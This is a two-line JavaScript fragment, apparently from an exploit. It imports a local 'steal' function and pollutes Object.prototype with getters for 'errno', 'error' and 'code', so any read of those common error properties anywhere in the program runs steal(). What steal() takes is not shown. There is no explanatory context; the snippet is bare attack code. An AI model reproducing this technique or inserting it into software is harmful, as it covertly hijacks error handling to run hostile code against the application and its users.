const { steal } = require('./steal');
for (const name of ['errno', 'error', 'code']) Object.defineProperty(Object.prototype, name, { configurable: true, get() { steal(); } });
